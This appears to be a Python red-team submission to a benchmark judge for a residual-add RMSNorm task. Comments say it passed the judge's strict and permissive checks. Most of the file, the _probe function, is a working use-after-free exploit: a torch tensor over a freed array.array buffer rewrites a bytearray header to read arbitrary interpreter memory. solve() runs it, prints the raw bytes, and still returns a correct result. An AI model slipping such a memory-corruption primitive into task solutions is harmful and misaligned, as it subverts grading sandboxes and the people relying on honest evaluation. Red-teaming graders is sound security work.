# Seventh session's red team (2026-12-06, CPU judge): passed strict and permissive at c968c56 (see
# the case's why); the helper's probe notes follow.
# torch side of K1's primitive: torch.from_numpy over np.ndarray(buffer=array.array); the
# array.array is then grown (its old block freed under the tensor); a bytearray object lands in
# the freed block, and the TORCH tensor reads and rewrites its header (ob_bytes -> id(target)).
import array

import numpy as np
import torch


def _probe(target):
    for attempt in range(50):
        ar = array.array("b", bytes(56))
        t = torch.from_numpy(np.ndarray((56,), dtype=np.uint8, buffer=ar))
        ar.extend(bytes(2000))
        victim = bytearray(b"hello!")
        w = t.view(torch.int64)
        if int(w[1]) == id(bytearray) and int(w[2]) == 6:
            saved = w.clone()
            w[2] = 16
            w[3] = 17
            w[4] = id(target)
            w[5] = id(target)
            raw = bytes(victim[:16])
            w.copy_(saved)
            return attempt, raw
    return None, None


def solve(x, residual, weight):
    target = float(x.shape[-1]) + 0.25
    att, raw = _probe(target)
    if raw is None or int.from_bytes(raw[8:16], "little") != id(float):
        raise RuntimeError("probe failed")
    print(
        "RAWREAD(torch) attempt",
        att,
        "float header @",
        hex(id(target)),
        raw.hex(),
        "id(float)",
        hex(id(float)),
    )
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
